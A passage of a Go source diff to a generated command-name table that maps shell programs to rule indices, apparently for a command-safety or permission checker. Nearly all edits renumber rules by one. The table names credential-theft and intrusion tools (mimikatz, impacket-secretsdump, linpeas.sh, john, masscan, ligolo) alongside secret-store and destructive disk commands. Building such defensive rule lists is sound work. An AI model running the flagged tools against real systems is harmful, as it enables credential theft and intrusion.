+				Rules:   []uint16{300, 302},
 			},
 			nameEntry{
 				Name:    "icacls.exe",
 				Program: -1,
-				Rules:   []uint16{301},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name:    "iconv",
@@ -14219,17 +14235,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "iex",
 				Program: 46,
-				Rules:   []uint16{394},
+				Rules:   []uint16{395},
 			},
 			nameEntry{
 				Name:    "ifconfig",
 				Program: 56,
-				Rules:   []uint16{426},
+				Rules:   []uint16{427},
 			},
 			nameEntry{
 				Name:    "impacket-secretsdump",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "impala-shell",
@@ -14238,27 +14254,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "incus",
 				Program: 62,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "infisical",
 				Program: 62,
-				Rules:   []uint16{33, 198, 246},
+				Rules:   []uint16{33, 199, 247},
 			},
 			nameEntry{
 				Name:    "influx",
 				Program: 59,
-				Rules:   []uint16{117, 144, 145},
+				Rules:   []uint16{118, 145, 146},
 			},
 			nameEntry{
 				Name:    "influxd",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "influxdb3",
 				Program: -1,
-				Rules:   []uint16{145},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "infracost",
@@ -14267,12 +14283,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "init",
 				Program: 65,
-				Rules:   []uint16{420},
+				Rules:   []uint16{421},
 			},
 			nameEntry{
 				Name:    "initctl",
 				Program: 65,
-				Rules:   []uint16{439},
+				Rules:   []uint16{440},
 			},
 			nameEntry{
 				Name:    "initdb",
@@ -14281,7 +14297,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "innochecksum",
 				Program: -1,
-				Rules:   []uint16{142},
+				Rules:   []uint16{143},
 			},
 			nameEntry{
 				Name:    "innoextract",
@@ -14290,12 +14306,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "insmod",
 				Program: 65,
-				Rules:   []uint16{412},
+				Rules:   []uint16{413},
 			},
 			nameEntry{
 				Name:    "install",
 				Program: 17,
-				Rules:   []uint16{286, 408},
+				Rules:   []uint16{287, 409},
 			},
 			nameEntry{
 				Name:    "install_name_tool",
@@ -14304,22 +14320,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "installutil",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "inv",
 				Program: 46,
-				Rules:   []uint16{124},
+				Rules:   []uint16{125},
 			},
 			nameEntry{
 				Name:    "invoke",
 				Program: 46,
-				Rules:   []uint16{124},
+				Rules:   []uint16{125},
 			},
 			nameEntry{
 				Name:    "invoke-expression",
 				Program: -1,
-				Rules:   []uint16{394},
+				Rules:   []uint16{395},
 			},
 			nameEntry{
 				Name:    "inxi",
@@ -14340,17 +14356,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ip",
 				Program: 56,
-				Rules:   []uint16{426},
+				Rules:   []uint16{427},
 			},
 			nameEntry{
 				Name:    "ip6tables",
 				Program: 65,
-				Rules:   []uint16{422},
+				Rules:   []uint16{423},
 			},
 			nameEntry{
 				Name:    "ipa",
 				Program: -1,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "iperf",
@@ -14363,12 +14379,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ipfs",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "iptables",
 				Program: 65,
-				Rules:   []uint16{422},
+				Rules:   []uint16{423},
 			},
 			nameEntry{
 				Name:    "ipython",
@@ -14389,12 +14405,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "istioctl",
 				Program: 62,
-				Rules:   []uint16{231},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "iw",
 				Program: -1,
-				Rules:   []uint16{426},
+				Rules:   []uint16{427},
 			},
 			nameEntry{
 				Name:    "iwconfig",
@@ -14411,7 +14427,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "jamf",
 				Program: -1,
-				Rules:   []uint16{411},
+				Rules:   []uint16{412},
 			},
 			nameEntry{
 				Name:    "jaq",
@@ -14428,7 +14444,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "java",
 				Program: 46,
-				Rules:   []uint16{192, 193},
+				Rules:   []uint16{193, 194},
 			},
 			nameEntry{
 				Name:    "javac",
@@ -14437,7 +14453,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "jcli",
 				Program: -1,
-				Rules:   []uint16{191, 194},
+				Rules:   []uint16{192, 195},
 			},
 			nameEntry{
 				Name:    "jekyll",
@@ -14446,7 +14462,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "jenkins-cli",
 				Program: -1,
-				Rules:   []uint16{191, 194},
+				Rules:   []uint16{192, 195},
 			},
 			nameEntry{
 				Name:    "jest",
@@ -14455,7 +14471,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "jj",
 				Program: 51,
-				Rules:   []uint16{341, 342},
+				Rules:   []uint16{342, 343},
 			},
 			nameEntry{
 				Name: "jobs",
@@ -14463,7 +14479,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "john",
 				Program: -1,
-				Rules:   []uint16{55, 429},
+				Rules:   []uint16{56, 430},
 			},
 			nameEntry{
 				Name:    "join",
@@ -14472,7 +14488,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "journalctl",
 				Program: 65,
-				Rules:   []uint16{277},
+				Rules:   []uint16{278},
 			},
 			nameEntry{
 				Name:    "jq",
@@ -14489,12 +14505,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "jsr",
 				Program: -1,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "juju",
 				Program: 62,
-				Rules:   []uint16{243, 244, 245},
+				Rules:   []uint16{244, 245, 246},
 			},
 			nameEntry{
 				Name:    "jules",
@@ -14511,22 +14527,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "just",
 				Program: 46,
-				Rules:   []uint16{124, 125},
+				Rules:   []uint16{125, 126},
 			},
 			nameEntry{
 				Name:    "k",
 				Program: 62,
-				Rules:   []uint16{32, 178, 219, 220, 221, 222, 223, 224, 225, 226, 227, 228, 229, 230},
+				Rules:   []uint16{32, 179, 220, 221, 222, 223, 224, 225, 226, 227, 228, 229, 230, 231},
 			},
 			nameEntry{
 				Name:    "k0s",
 				Program: -1,
-				Rules:   []uint16{247},
+				Rules:   []uint16{248},
 			},
 			nameEntry{
 				Name:    "k3d",
 				Program: 62,
-				Rules:   []uint16{250},
+				Rules:   []uint16{251},
 			},
 			nameEntry{
 				Name:    "k3s",
@@ -14543,17 +14559,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kadmin",
 				Program: -1,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "kadmin.local",
 				Program: -1,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "kaggle",
 				Program: -1,
-				Rules:   []uint16{140, 374},
+				Rules:   []uint16{141, 375},
 			},
 			nameEntry{
 				Name:    "kak",
@@ -14562,7 +14578,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kamal",
 				Program: 62,
-				Rules:   []uint16{42, 157, 159},
+				Rules:   []uint16{43, 158, 160},
 			},
 			nameEntry{
 				Name:    "karma",
@@ -14571,52 +14587,52 @@ var shipped = Set{
 			nameEntry{
 				Name:    "katapult",
 				Program: -1,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "kcadm",
 				Program: -1,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "kcadm.sh",
 				Program: -1,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "kcat",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "kdig",
 				Program: 56,
-				Rules:   []uint16{360},
+				Rules:   []uint16{361},
 			},
 			nameEntry{
 				Name:    "kedro",
 				Program: -1,
-				Rules:   []uint16{141},
+				Rules:   []uint16{142},
 			},
 			nameEntry{
 				Name:    "keepassxc-cli",
 				Program: -1,
-				Rules:   []uint16{33, 57},
+				Rules:   []uint16{33, 58},
 			},
 			nameEntry{
 				Name:    "keeper",
 				Program: -1,
-				Rules:   []uint16{57},
+				Rules:   []uint16{58},
 			},
 			nameEntry{
 				Name:    "kexec",
 				Program: 65,
-				Rules:   []uint16{412, 449},
+				Rules:   []uint16{413, 450},
 			},
 			nameEntry{
 				Name:    "kextload",
 				Program: -1,
-				Rules:   []uint16{412, 467},
+				Rules:   []uint16{413, 468},
 			},
 			nameEntry{
 				Name:    "keychain",
@@ -14625,47 +14641,47 @@ var shipped = Set{
 			nameEntry{
 				Name:    "keyctl",
 				Program: -1,
-				Rules:   []uint16{37},
+				Rules:   []uint16{38},
 			},
 			nameEntry{
 				Name:    "keydb-cli",
 				Program: 59,
-				Rules:   []uint16{108, 109, 113, 114, 148},
+				Rules:   []uint16{109, 110, 114, 115, 149},
 			},
 			nameEntry{
 				Name:    "keyring",
 				Program: -1,
-				Rules:   []uint16{37},
+				Rules:   []uint16{38},
 			},
 			nameEntry{
 				Name:    "keytool",
 				Program: 65,
-				Rules:   []uint16{44, 445, 465},
+				Rules:   []uint16{45, 446, 466},
 			},
 			nameEntry{
 				Name:    "kill",
 				Program: 64,
-				Rules:   []uint16{413, 414, 415, 419, 478, 479},
+				Rules:   []uint16{414, 415, 416, 420, 479, 480},
 			},
 			nameEntry{
 				Name:    "kill-port",
 				Program: 64,
-				Rules:   []uint16{419},
+				Rules:   []uint16{420},
 			},
 			nameEntry{
 				Name:    "killall",
 				Program: 64,
-				Rules:   []uint16{413, 415, 416, 419, 457, 477, 479},
+				Rules:   []uint16{414, 416, 417, 420, 458, 478, 480},
 			},
 			nameEntry{
 				Name:    "killall5",
 				Program: -1,
-				Rules:   []uint16{413, 459},
+				Rules:   []uint16{414, 460},
 			},
 			nameEntry{
 				Name:    "kilo",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "kilocode",
@@ -14674,7 +14690,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kind",
 				Program: 62,
-				Rules:   []uint16{250},
+				Rules:   []uint16{251},
 			},
 			nameEntry{
 				Name:    "kiro",
@@ -14683,32 +14699,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kiro-cli",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "kitten",
 				Program: -1,
-				Rules:   []uint16{475},
+				Rules:   []uint16{476},
 			},
 			nameEntry{
 				Name:    "kitty",
 				Program: -1,
-				Rules:   []uint16{475},
+				Rules:   []uint16{476},
 			},
 			nameEntry{
 				Name:    "kldload",
 				Program: -1,
-				Rules:   []uint16{412},
+				Rules:   []uint16{413},
 			},
 			nameEntry{
 				Name:    "knex",
 				Program: 49,
-				Rules:   []uint16{127, 128, 130, 131},
+				Rules:   []uint16{128, 129, 131, 132},
 			},
 			nameEntry{
 				Name:    "knife",
 				Program: 62,
-				Rules:   []uint16{162, 252},
+				Rules:   []uint16{163, 253},
 			},
 			nameEntry{
 				Name:    "knip",
@@ -14717,17 +14733,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ko",
 				Program: -1,
-				Rules:   []uint16{377},
+				Rules:   []uint16{378},
 			},
 			nameEntry{
 				Name:    "kopia",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "kops",
 				Program: 62,
-				Rules:   []uint16{224, 247},
+				Rules:   []uint16{225, 248},
 			},
 			nameEntry{
 				Name:    "kotlin",
@@ -14740,7 +14756,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "koyeb",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "krew",
@@ -14749,7 +14765,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ksh",
 				Program: 4,
-				Rules:   []uint16{391, 392, 447, 448},
+				Rules:   []uint16{392, 393, 448, 449},
 			},
 			nameEntry{
 				Name:    "ktlint",
@@ -14758,22 +14774,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kubeadm",
 				Program: 62,
-				Rules:   []uint16{224, 247},
+				Rules:   []uint16{225, 248},
 			},
 			nameEntry{
 				Name:    "kubectl",
 				Program: 62,
-				Rules:   []uint16{25, 26, 27, 32, 178, 219, 220, 221, 222, 223, 224, 225, 226, 227, 228, 229, 230, 386},
+				Rules:   []uint16{25, 26, 27, 32, 179, 220, 221, 222, 223, 224, 225, 226, 227, 228, 229, 230, 231, 387},
 			},
 			nameEntry{
 				Name:    "kubectl-debug",
 				Program: -1,
-				Rules:   []uint16{229},
+				Rules:   []uint16{230},
 			},
 			nameEntry{
 				Name:    "kubectl-node_shell",
 				Program: -1,
-				Rules:   []uint16{229},
+				Rules:   []uint16{230},
 			},
 			nameEntry{
 				Name:    "kubectx",
@@ -14790,17 +14806,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "kubespray",
 				Program: -1,
-				Rules:   []uint16{247},
+				Rules:   []uint16{248},
 			},
 			nameEntry{
 				Name:    "kustomize",
 				Program: 62,
-				Rules:   []uint16{231},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "kwallet-query",
 				Program: 65,
-				Rules:   []uint16{37},
+				Rules:   []uint16{38},
 			},
 			nameEntry{
 				Name:    "la",
@@ -14809,12 +14825,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lakectl",
 				Program: -1,
-				Rules:   []uint16{140},
+				Rules:   []uint16{141},
 			},
 			nameEntry{
 				Name:    "lambda-cloud",
 				Program: 62,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "last",
@@ -14835,7 +14851,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "launchctl",
 				Program: 65,
-				Rules:   []uint16{24, 403, 416, 427, 467, 479},
+				Rules:   []uint16{24, 404, 417, 428, 468, 480},
 			},
 			nameEntry{
 				Name:    "lazydocker",
@@ -14856,7 +14872,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ldapdelete",
 				Program: 60,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "ldapmodify",
@@ -14873,7 +14889,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ldconfig",
 				Program: 65,
-				Rules:   []uint16{427},
+				Rules:   []uint16{428},
 			},
 			nameEntry{
 				Name:    "ldd",
@@ -14886,7 +14902,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lego",
 				Program: -1,
-				Rules:   []uint16{280},
+				Rules:   []uint16{281},
 			},
 			nameEntry{
 				Name:    "lein",
@@ -14895,7 +14911,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lerna",
 				Program: 33,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "less",
@@ -14911,12 +14927,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lfs",
 				Program: -1,
-				Rules:   []uint16{133},
+				Rules:   []uint16{134},
 			},
 			nameEntry{
 				Name:    "lftp",
 				Program: 57,
-				Rules:   []uint16{289, 380, 381},
+				Rules:   []uint16{290, 381, 382},
 			},
 			nameEntry{
 				Name:    "libsql",
@@ -14933,17 +14949,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ligolo",
 				Program: -1,
-				Rules:   []uint16{357},
+				Rules:   []uint16{358},
 			},
 			nameEntry{
 				Name:    "limactl",
 				Program: 62,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "linkerd",
 				Program: 62,
-				Rules:   []uint16{231},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "links",
@@ -14952,22 +14968,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "linode",
 				Program: 62,
-				Rules:   []uint16{25, 26, 177},
+				Rules:   []uint16{25, 26, 178},
 			},
 			nameEntry{
 				Name:    "linode-cli",
 				Program: 62,
-				Rules:   []uint16{25, 26, 177, 205, 206, 256},
+				Rules:   []uint16{25, 26, 178, 206, 207, 257},
 			},
 			nameEntry{
 				Name:    "linpeas.sh",
 				Program: -1,
-				Rules:   []uint16{429},
+				Rules:   []uint16{430},
 			},
 			nameEntry{
 				Name:    "linstor",
 				Program: -1,
-				Rules:   []uint16{133},
+				Rules:   []uint16{134},
 			},
 			nameEntry{
 				Name:    "lint-staged",
@@ -14980,7 +14996,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "liquibase",
 				Program: 49,
-				Rules:   []uint16{127, 130},
+				Rules:   []uint16{128, 131},
 			},
 			nameEntry{
 				Name:    "lit",
@@ -14989,17 +15005,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "litecli",
 				Program: 59,
-				Rules:   []uint16{63},
+				Rules:   []uint16{64},
 			},
 			nameEntry{
 				Name:    "litestream",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "live-server",
 				Program: 46,
-				Rules:   []uint16{383},
+				Rules:   []uint16{384},
 			},
 			nameEntry{
 				Name:    "ll",
@@ -15039,7 +15055,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "localtunnel",
 				Program: 46,
-				Rules:   []uint16{366, 367},
+				Rules:   []uint16{367, 368},
 			},
 			nameEntry{
 				Name:    "locate",
@@ -15052,22 +15068,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "log",
 				Program: 65,
-				Rules:   []uint16{277},
+				Rules:   []uint16{278},
 			},
 			nameEntry{
 				Name:    "logger",
 				Program: 65,
-				Rules:   []uint16{380},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "loginctl",
 				Program: 65,
-				Rules:   []uint16{415, 420},
+				Rules:   []uint16{416, 421},
 			},
 			nameEntry{
 				Name:    "logoff",
 				Program: -1,
-				Rules:   []uint16{459},
+				Rules:   []uint16{460},
 			},
 			nameEntry{
 				Name: "logout",
@@ -15083,17 +15099,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "losetup",
 				Program: 65,
-				Rules:   []uint16{298, 427},
+				Rules:   []uint16{299, 428},
 			},
 			nameEntry{
 				Name:    "lpass",
 				Program: -1,
-				Rules:   []uint16{33, 57},
+				Rules:   []uint16{33, 58},
 			},
 			nameEntry{
 				Name:    "ls",
 				Program: 7,
-				Rules:   []uint16{22, 417},
+				Rules:   []uint16{22, 418},
 			},
 			nameEntry{
 				Name:    "lsattr",
@@ -15114,7 +15130,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lsd",
 				Program: 7,
-				Rules:   []uint16{417},
+				Rules:   []uint16{418},
 			},
 			nameEntry{
 				Name:    "lsmod",
@@ -15131,7 +15147,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lssecret",
 				Program: -1,
-				Rules:   []uint16{37},
+				Rules:   []uint16{38},
 			},
 			nameEntry{
 				Name:    "lsusb",
@@ -15140,7 +15156,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lt",
 				Program: 46,
-				Rules:   []uint16{366, 367},
+				Rules:   []uint16{367, 368},
 			},
 			nameEntry{
 				Name:    "ltrace",
@@ -15161,12 +15177,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "luarocks",
 				Program: 45,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "luigi",
 				Program: 46,
-				Rules:   []uint16{141},
+				Rules:   []uint16{142},
 			},
 			nameEntry{
 				Name:    "lvcreate",
@@ -15179,12 +15195,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lvreduce",
 				Program: -1,
-				Rules:   []uint16{298},
+				Rules:   []uint16{299},
 			},
 			nameEntry{
 				Name:    "lvremove",
 				Program: 65,
-				Rules:   []uint16{257, 283, 298},
+				Rules:   []uint16{258, 284, 299},
 			},
 			nameEntry{
 				Name:    "lvs",
@@ -15193,7 +15209,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "lxc",
 				Program: 62,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "lxd",
@@ -15214,7 +15230,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "maas",
 				Program: 62,
-				Rules:   []uint16{177, 242},
+				Rules:   []uint16{178, 243},
 			},
 			nameEntry{
 				Name:    "madge",
@@ -15227,17 +15243,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mage",
 				Program: 33,
-				Rules:   []uint16{124, 141},
+				Rules:   []uint16{125, 142},
 			},
 			nameEntry{
 				Name:    "magic-wormhole",
 				Program: 57,
-				Rules:   []uint16{366, 380},
+				Rules:   []uint16{367, 381},
 			},
 			nameEntry{
 				Name:    "magic-wormhole.js",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "magick",
@@ -15246,17 +15262,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mail",
 				Program: -1,
-				Rules:   []uint16{366, 380, 382},
+				Rules:   []uint16{367, 381, 383},
 			},
 			nameEntry{
 				Name:    "mailx",
 				Program: -1,
-				Rules:   []uint16{366},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "make",
 				Program: 30,
-				Rules:   []uint16{124, 125},
+				Rules:   []uint16{125, 126},
 			},
 			nameEntry{
 				Name:    "mamba",
@@ -15265,12 +15281,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "manage-bde",
 				Program: -1,
-				Rules:   []uint16{411},
+				Rules:   []uint16{412},
 			},
 			nameEntry{
 				Name:    "manage.py",
 				Program: 49,
-				Rules:   []uint16{127, 129, 130},
+				Rules:   []uint16{128, 130, 131},
 			},
 			nameEntry{
 				Name: "mapfile",
@@ -15282,7 +15298,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mariadb",
 				Program: 59,
-				Rules:   []uint16{146, 352},
+				Rules:   []uint16{147, 353},
 			},
 			nameEntry{
 				Name:    "mariadb-dump",
@@ -15291,12 +15307,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mariadbd",
 				Program: -1,
-				Rules:   []uint16{110},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "mariadbd-safe",
 				Program: -1,
-				Rules:   []uint16{110},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "markdownlint",
@@ -15309,7 +15325,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "masscan",
 				Program: 56,
-				Rules:   []uint16{429},
+				Rules:   []uint16{430},
 			},
 			nameEntry{
 				Name:    "mate",
@@ -15330,12 +15346,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mc",
 				Program: 62,
-				Rules:   []uint16{168, 169, 204, 365, 380},
+				Rules:   []uint16{169, 170, 205, 366, 381},
 			},
 			nameEntry{
 				Name:    "mcp",
 				Program: -1,
-				Rules:   []uint16{181},
+				Rules:   []uint16{182},
 			},
 			nameEntry{
 				Name:    "md5",
@@ -15348,12 +15364,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mdadm",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "mdatp",
 				Program: -1,
-				Rules:   []uint16{411},
+				Rules:   []uint16{412},
 			},
 			nameEntry{
 				Name:    "mdbook",
@@ -15374,12 +15390,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "medusa",
 				Program: 49,
-				Rules:   []uint16{55, 130},
+				Rules:   []uint16{56, 131},
 			},
 			nameEntry{
 				Name:    "meilisearch",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "memcached-tool",
@@ -15388,7 +15404,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "memsql-ops",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "meson",
@@ -15397,12 +15413,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "metal",
 				Program: -1,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "mfsmaster",
 				Program: -1,
-				Rules:   []uint16{133},
+				Rules:   []uint16{134},
 			},
 			nameEntry{
 				Name:    "micro",
@@ -15415,7 +15431,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "microk8s.kubectl",
 				Program: -1,
-				Rules:   []uint16{219},
+				Rules:   []uint16{220},
 			},
 			nameEntry{
 				Name:    "micromamba",
@@ -15428,12 +15444,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "migrate",
 				Program: 49,
-				Rules:   []uint16{127, 128, 130},
+				Rules:   []uint16{128, 129, 131},
 			},
 			nameEntry{
 				Name:    "mikro-orm",
 				Program: 49,
-				Rules:   []uint16{127, 128, 130},
+				Rules:   []uint16{128, 129, 131},
 			},
 			nameEntry{
 				Name:    "mill",
@@ -15442,12 +15458,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mimikatz",
 				Program: -1,
-				Rules:   []uint16{429},
+				Rules:   []uint16{430},
 			},
 			nameEntry{
 				Name:    "mina",
 				Program: -1,
-				Rules:   []uint16{162},
+				Rules:   []uint16{163},
 			},
 			nameEntry{
 				Name:    "mini",
@@ -15456,12 +15472,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "minikube",
 				Program: 62,
-				Rules:   []uint16{250},
+				Rules:   []uint16{251},
 			},
 			nameEntry{
 				Name:    "miniserve",
 				Program: -1,
-				Rules:   []uint16{383},
+				Rules:   []uint16{384},
 			},
 			nameEntry{
 				Name:    "minitest",
@@ -15474,7 +15490,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mise",
 				Program: 45,
-				Rules:   []uint16{124, 404},
+				Rules:   []uint16{125, 405},
 			},
 			nameEntry{
 				Name:    "mitmdump",
@@ -15487,12 +15503,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mix",
 				Program: 49,
-				Rules:   []uint16{127, 130, 375, 376},
+				Rules:   []uint16{128, 131, 376, 377},
 			},
 			nameEntry{
 				Name:    "mkcert",
 				Program: 65,
-				Rules:   []uint16{445},
+				Rules:   []uint16{446},
 			},
 			nameEntry{
 				Name:    "mkdir",
@@ -15505,7 +15521,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mke2fs",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "mkfifo",
@@ -15514,17 +15530,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mkfs",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "mkinitcpio",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "mkswap",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "mktemp",
@@ -15533,7 +15549,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mlflow",
 				Program: 46,
-				Rules:   []uint16{141},
+				Rules:   []uint16{142},
 			},
 			nameEntry{
 				Name:    "mlocate",
@@ -15558,17 +15574,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "modal",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "modelscope",
 				Program: -1,
-				Rules:   []uint16{374},
+				Rules:   []uint16{375},
 			},
 			nameEntry{
 				Name:    "modprobe",
 				Program: 65,
-				Rules:   []uint16{412},
+				Rules:   []uint16{413},
 			},
 			nameEntry{
 				Name:    "mods",
@@ -15581,27 +15597,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mokutil",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "mongo",
 				Program: 59,
-				Rules:   []uint16{115, 146},
+				Rules:   []uint16{116, 147},
 			},
 			nameEntry{
 				Name:    "mongocli",
 				Program: 62,
-				Rules:   []uint16{184, 206, 256},
+				Rules:   []uint16{185, 207, 257},
 			},
 			nameEntry{
 				Name:    "mongod",
 				Program: -1,
-				Rules:   []uint16{142},
+				Rules:   []uint16{143},
 			},
 			nameEntry{
 				Name:    "mongodump",
 				Program: 61,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "mongoexport",
@@ -15614,17 +15630,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mongorestore",
 				Program: 60,
-				Rules:   []uint16{117, 352},
+				Rules:   []uint16{118, 353},
 			},
 			nameEntry{
 				Name:    "mongosh",
 				Program: 59,
-				Rules:   []uint16{115, 146},
+				Rules:   []uint16{116, 147},
 			},
 			nameEntry{
 				Name:    "moon",
 				Program: 46,
-				Rules:   []uint16{124},
+				Rules:   []uint16{125},
 			},
 			nameEntry{
 				Name:    "more",
@@ -15633,7 +15649,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "mosh",
 				Program: 57,
-				Rules:   []uint16{418},
